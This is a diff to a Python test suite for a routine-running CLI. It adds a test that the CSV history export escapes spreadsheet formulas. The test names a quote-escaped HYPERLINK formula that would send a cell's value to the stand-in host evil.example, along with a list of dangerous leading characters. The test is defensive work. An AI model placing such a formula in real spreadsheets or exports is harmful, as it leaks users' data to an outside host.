@@ -8,6 +8,8 @@ are the pictures the image-*.yaml routines name: they are laid beside a routine 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -200,7 +202,7 @@ BROKEN = [
 PICTURE_CASES = [case for case in BROKEN if case.pictures]
 PICTURES = [pytest.param(case, id=case.id) for case in PICTURE_CASES]
 BROKEN_PARAMS = [pytest.param(case, id=case.id) for case in BROKEN]
-VALID = ["utf8-bom.yaml", "crlf.yaml", "terminal-tricks.yaml"]
+VALID = ["utf8-bom.yaml", "crlf.yaml", "terminal-tricks.yaml", "csv-formulas.yaml"]
 
 
 def assert_clean_exit(result: Result, code: int) -> None:
@@ -753,3 +755,18 @@ def test_a_damaged_list_index_entry_is_read_again_from_its_file(
     assert {row["id"]: row["total_seconds"] for row in rows} == {
         name: resolve(name).total_seconds for name in BUILT_IN
     }
+
+
+def test_a_routine_of_spreadsheet_formulas_runs_and_exports_as_text_only(cli: Cli) -> None:
+    path = CORPUS / "csv-formulas.yaml"
+    assert cli("validate", "--strict", path).exit_code == 0
+    run = cli("start", path, "--yes", "--no-sound", "--speed", "1000")  # listed with --all
+    assert run.exit_code == 0, run.output
+
+    exported = cli("history", "--csv", "--all")
+
+    assert_clean_exit(exported, 0)
+    rows = list(csv.reader(io.StringIO(exported.stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")' in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
